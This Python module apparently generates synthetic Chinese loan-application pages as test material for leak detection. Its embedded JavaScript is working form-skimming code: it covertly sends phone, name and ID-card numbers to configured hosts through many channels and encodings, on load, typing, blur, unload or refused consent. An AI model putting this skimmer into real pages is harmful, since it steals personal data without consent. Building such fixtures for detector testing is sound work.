# ruff: noqa: E501 - lines of HTML and script
"""Pages of loan flows in many dresses: labels, layouts, boxes, buttons and leaks are drawn by lot."""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field

LABELS = {
    "mobile": (
        ("手机号", "sjh"),
        ("手机号码", "mobile"),
        ("联系电话", "tel"),
        ("您的手机", "phoneNo"),
        ("本人实名手机号", "u1"),
    ),
    "name": (("姓名", "xm"), ("真实姓名", "realName"), ("您的称呼", "q2"), ("借款人姓名", "name")),
    "idno": (
        ("身份证号", "sfzh"),
        ("身份证号码", "idCard"),
        ("证件号码", "certNo"),
        ("公民身份号码", "f3"),
    ),
    "email": (("电子邮箱", "email"), ("邮箱", "yx")),
    "address": (("居住地址", "addr"), ("现住址", "dz")),
}
BUTTONS = (
    "立即申请",
    "下一步",
    "同意并继续",
    "领取额度",
    "提交申请",
    "查看我的额度",
    "马上借钱",
    "立即领取",
    "确认提交",
)
CHANNELS = ("img", "fetch", "beacon", "xhr", "script", "keepalive", "socket", "blob", "worker")
CODES = ("plain", "b64", "hex", "md5", "rev", "b64b64", "jsonb64", "mask", "first8md5", "urlb64")

SCRIPT = r"""
const V = f => { const e = document.querySelector('[data-p="'+f+'"]'); return e ? e.value : ''; };
const u8 = s => unescape(encodeURIComponent(s));
const hex = s => [...u8(s)].map(c => c.charCodeAt(0).toString(16).padStart(2,'0')).join('');
function md5(s){s=u8(s);const r=(x,c)=>(x<<c)|(x>>>(32-c)),K=[],S=[7,12,17,22,5,9,14,20,4,11,16,23,6,10,15,21];
for(let i=0;i<64;i++)K[i]=(Math.abs(Math.sin(i+1))*4294967296)|0;const n=((s.length+8)>>6)+1,M=new Array(n*16).fill(0);
for(let i=0;i<s.length;i++)M[i>>2]|=s.charCodeAt(i)<<(i%4*8);M[s.length>>2]|=0x80<<(s.length%4*8);M[n*16-2]=s.length*8;
let a=0x67452301,b=0xefcdab89|0,c=0x98badcfe|0,d=0x10325476;for(let k=0;k<M.length;k+=16){let A=a,B=b,C=c,D=d;
for(let i=0;i<64;i++){let F,g;if(i<16){F=(B&C)|(~B&D);g=i}else if(i<32){F=(D&B)|(~D&C);g=(5*i+1)%16}else if(i<48){F=B^C^D;g=(3*i+5)%16}else{F=C^(B|~D);g=(7*i)%16}
const T=D;D=C;C=B;B=(B+r((A+F+K[i]+M[k+g])|0,S[(i>>4)*4+i%4]))|0;A=T}a=(a+A)|0;b=(b+B)|0;c=(c+C)|0;d=(d+D)|0}
return [a,b,c,d].map(x=>[0,8,16,24].map(s=>((x>>>s)&255).toString(16).padStart(2,'0')).join('')).join('')}
const ENC = { plain: v=>v, b64: v=>btoa(u8(v)), hex, md5, rev: v=>[...v].reverse().join(''),
 b64b64: v=>btoa(btoa(u8(v))), jsonb64: v=>btoa(u8(JSON.stringify({a:1,v:v,t:'x'}))),
 mask: v=>v.length==11?v.slice(0,3)+'****'+v.slice(7):v, first8md5: v=>v.length==11?v.slice(0,8)+'&h='+md5(v):md5(v),
 urlb64: v=>encodeURIComponent(btoa(u8(v))) };
let STATE = 0;
function leak(l,given){ const v = given===undefined?V(l.field):given; if(!v) return; const d='c='+l.id+'&s='+STATE+'&d='+(l.code=='first8md5'?ENC.first8md5(v):encodeURIComponent(ENC[l.code](v)));
 const u = l.url;
 if(l.channel=='img') new Image().src=u+'?'+d;
 else if(l.channel=='fetch') fetch(u,{method:'POST',body:d,mode:'no-cors'}).catch(()=>0);
 else if(l.channel=='beacon') navigator.sendBeacon(u,d);
 else if(l.channel=='blob') navigator.sendBeacon(u,new Blob([d],{type:'text/plain'}));
 else if(l.channel=='xhr'){const x=new XMLHttpRequest();x.open('POST',u);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({q:d}));}
 else if(l.channel=='script'){const s=document.createElement('script');s.src=u+'?'+d;document.head.append(s);}
 else if(l.channel=='keepalive') fetch(u,{method:'POST',body:d,keepalive:true,mode:'no-cors'}).catch(()=>0);
 else if(l.channel=='socket'){const w=new WebSocket(u.replace('http','ws'));w.onopen=()=>w.send(d);}
 else if(l.channel=='worker'){const b=new Blob(['onmessage=e=>fetch(e.data[0],{method:"POST",body:e.data[1],mode:"no-cors"})'],{type:'text/javascript'});new Worker(URL.createObjectURL(b)).postMessage([u,d]);}
 else if(l.channel=='shared'){new SharedWorker('/shared.js').port.postMessage([u,d]);}
 else if(l.channel=='frame'){const f=document.createElement('iframe');f.style='width:1px;height:1px';f.src=u+'?'+d;document.body.append(f);}
}
const run = when => LEAKS.filter(l=>l.when==when).forEach(l=>leak(l));
const fire = (when,field,v) => LEAKS.filter(l=>l.when==when&&l.field==field).forEach(l=>leak(l,v));
const sent = {};
document.addEventListener('input',e=>LEAKS.filter(l=>l.when=='input'&&e.target.dataset.p==l.field&&V(l.field).length>=l.full).forEach(l=>leak(l)));
document.addEventListener('focusout',e=>LEAKS.filter(l=>l.when=='blur'&&e.target.dataset.p==l.field).forEach(l=>leak(l)));
addEventListener('pagehide',()=>run('unload'));
"""


@dataclass(frozen=True)
class Leak:
    """One way a field leaves a page: when, by what channel, in what code, to whom."""

    id: str
    field: str
    when: str
    channel: str
    code: str
    host: str
    url: str = ""


@dataclass
class Form:
    """What a form page asks for and does."""

    fields: tuple[str, ...]
    action: str
    box: str = "plain"
    leaks: list[Leak] = field(default_factory=list)
    agreements: tuple[tuple[str, str], ...] = (("用户服务协议", "/agreement"),)
    consent: str = "我已阅读并同意"
    go: str = "form"
    extras: tuple[str, ...] = ()
    title: str = "示例借款"
    submit_check: str = "alert"


def _field(rng: random.Random, code: str) -> str:
    label, name = rng.choice(LABELS[code])
    kind = {"mobile": "tel", "email": "email"}.get(code, "text")
    attrs = f'type="{kind}" name="{name}" data-p="{code}"'
    style = rng.choice(("for", "wrap", "placeholder", "row", "table", "above"))
    if style == "for":
        return f'<p><label for="i_{name}">{label}</label> <input id="i_{name}" {attrs}></p>'
    if style == "wrap":
        return f"<p><label>{label}<input {attrs}></label></p>"
    if style == "placeholder":
        return f'<p><input {attrs} placeholder="请输入{label}"></p>'
    if style == "table":
        return f"<table><tr><td>{label}：</td><td><input {attrs}></td></tr></table>"
    if style == "above":
        return (
            f'<div class="t">{label}</div><div class="c"><input {attrs} placeholder="请填写"></div>'
        )
    return f'<div class="row"><span>{label}</span><div><input {attrs}></div></div>'


EXTRAS = {
    "select": '<p>月收入 <select name="income"><option value="">请选择</option><option value="1">5000以下</option>'
    '<option value="2">5000-10000</option><option value="3">10000以上</option></select></p>',
    "radio": '<fieldset><legend>名下房产</legend><label><input type="radio" name="house" value="1">有房</label>'
    '<label><input type="radio" name="house" value="0">无房</label></fieldset>',
    "slider": '<p>借款金额 <input type="range" name="amount" min="1000" max="50000" step="1000"></p>',
    "chips": '<div>车辆情况</div><div class="chips"><span class="chip" onclick="pick(this)">有车</span>'
    '<span class="chip" onclick="pick(this)">无车</span></div><input type="hidden" name="car" id="chipv">'
    "<script>function pick(e){document.querySelectorAll('.chip').forEach(x=>x.className='chip');e.className='chip active';"
    "document.getElementById('chipv').value=e.textContent}</script>",
    "picker": '<p>所在城市 <input readonly id="city" placeholder="请选择城市" onclick="sheet.style.display=\'block\'"></p>'
    '<div id="sheet" style="display:none;position:fixed;left:0;right:0;bottom:0;height:300px;background:#eee">'
    "<div onclick=\"sheet.style.display='none'\">取消</div>"
    + "".join(
        f"<div style='cursor:pointer' onclick=\"city.value=this.textContent;sheet.style.display='none'\">{c}</div>"
        for c in ("示例市", "样本市", "假设市")
    )
    + "</div>",
    "code": '<p><input name="yzm" placeholder="请输入验证码" maxlength="6" data-code="1"> '
    '<a href="javascript:;" class="getcode" onclick="run(\'code\')">获取验证码</a></p>',
    "hidden": '<input name="hp" style="position:absolute;left:-9999px" placeholder="手机号">',
}


def _box(rng: random.Random, form: Form) -> str:
    links = "".join(f'<a href="{href}">《{text}》</a>' for text, href in form.agreements)
    words = f"{form.consent}{links}"
    if form.box == "none":
        return f"<p>{links}</p>" if links else ""
    if form.box == "press":
        return f"<p class='tip'>点击按钮即表示您同意{links}</p>"
    if form.box == "ticked":
        return f"<p><label><input type='checkbox' id='agree' checked>{words}</label></p>"
    if form.box == "drawn":
        return (
            "<p><i class='check-icon' id='drawn' style='display:inline-block;width:16px;height:16px;border:1px solid #999'"
            " onclick=\"this.classList.toggle('checked')\"></i> <span>" + words + "</span></p>"
        )
    if rng.random() < 0.5:
        return f"<p><input type='checkbox' id='agree'><label for='agree'>{words}</label></p>"
    return f"<p><label><input type='checkbox' id='agree'>{words}</label></p>"


GO = {
    "form": "document.getElementById('f').submit();",
    "script": "setTimeout(()=>{location.href=form_url()},80);",
    "replace": "location.replace(form_url());",
    "popup": "window.open(form_url());",
    "fetch": "fetch(ACTION,{method:'POST',body:new URLSearchParams(new FormData(document.getElementById('f')))})"
    ".then(()=>{location.href=NEXT});",
}


def form_page(rng: random.Random, form: Form, next_url: str = "") -> str:
    """The page of a form; `rng` dresses it."""
    fields = [_field(rng, code) for code in form.fields]
    extras = [EXTRAS[each] for each in form.extras]
    body = [*fields, *extras]
    if "code" not in form.extras:
        rng.shuffle(body)
    full = {"mobile": 11, "idno": 18, "name": 2, "email": 99, "address": 99}
    leaks = [{**each.__dict__, "full": full.get(each.field, 99)} for each in form.leaks]
    ticked = {
        "none": "true",
        "press": "true",
        "drawn": "document.getElementById('drawn').classList.contains('checked')",
    }.get(form.box, "document.getElementById('agree').checked")
    refuse = {
        "alert": "alert('请先阅读并同意相关协议');return;",
        "toast": "const t=document.createElement('div');t.textContent='请勾选同意协议';"
        "t.style='position:fixed;top:40%;left:30%;background:#333;color:#fff';document.body.append(t);"
        "setTimeout(()=>t.remove(),1600);return;",
        "none": "",
        "leak": "run('refused');alert('请先同意协议');return;",
    }[form.submit_check]
    text = rng.choice(BUTTONS)
    go = GO[form.go]
    if form.go == "form" and len(form.leaks) % 2:  # else what the press began dies with the page
        go = f"setTimeout(()=>{{{go}}},150);"
    button = rng.choice(
        (
            f"<button type='button' onclick='go()'>{text}</button>",
            f"<div class='btn' style='background:#06c;color:#fff;width:300px;cursor:pointer' onclick='go()'>{text}</div>",
            f"<a href='javascript:void(0)' class='button' onclick='go()'>{text}</a>",
        )
    )
    need = " ".join(f"if(!V('{code}')){{alert('请填写完整');return;}}" for code in form.fields)
    return f"""<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>{form.title}</title>
<meta name="viewport" content="width=device-width"></head><body><h1>{form.title}</h1><p>最高可借 200000 元</p>
<form id="f" method="post" action="{form.action}" onsubmit="return false">{"".join(body)}{_box(rng, form)}{button}</form>
<p><a href="/about">关于我们</a> <a href="/help">帮助中心</a></p>
<script>const LEAKS={json.dumps(leaks, ensure_ascii=False)};const ACTION={json.dumps(form.action)};const NEXT={json.dumps(next_url)};
{SCRIPT}
function form_url(){{const q=new URLSearchParams(new FormData(document.getElementById('f')));return ACTION+'?'+q}}
function go(){{{need} const ok={ticked}; if(!ok){{{refuse}}} if(ok) STATE=1; run('submit'); {go}}}
run('load');
</script></body></html>"""


AGREEMENT = (
    "<html><body><h1>《{name}》</h1><p>"
    + "本协议由您与{company}签订，{company}将处理您的姓名和手机号用于贷款申请。" * 3
    + "</p></body></html>"
)


def plain_page(title: str, text: str, more: str = "") -> str:
    """A page that only says something."""
    return (
        f"<!doctype html><html><head><meta charset='utf-8'><title>{title}</title></head>"
        f"<body><h1>{title}</h1><p>{text}</p>{more}</body></html>"
    )
